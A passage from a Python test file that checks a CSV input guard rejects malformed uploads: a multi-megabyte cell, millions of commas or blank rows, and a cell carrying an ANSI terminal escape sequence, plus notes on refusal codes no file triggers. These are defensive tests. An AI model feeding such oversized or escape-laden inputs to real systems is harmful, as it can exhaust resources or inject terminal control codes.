csv_refuse("csv_long_cell", "E_CELL_TOO_LONG", lambda: (LINES + "47," + "a" * 4_000_000 +
    "\n").encode(), "A4")
csv_refuse("csv_all_commas", "E_TOO_MANY_COLUMNS", lambda: b"," * (10 << 20), "A1")
csv_refuse("csv_far_row", "E_TOO_MANY_ROWS", lambda: LINES.encode() + b"\n" * 2_000_000 + b"x\n",
    "A2000004")
csv_refuse("csv_escape_sequence", "E_CONTROL_CHARACTER", LINES.encode() + b"47,\x1b[31m,a,1\n",
    "A4")

# fmt: on
# Refusals that no file of the corpus brings about, with the reason.
WITHOUT_FILE = {
    "E_SCANNER": "comes from the command of the site; see test_child",
    "E_TIMEOUT": "no file of the corpus takes that long; see test_child",
    "E_MEMORY": "the limits of the guard are met first; see test_child",
    "E_CRASHED": "nothing of ours ends the process; see test_child",
}
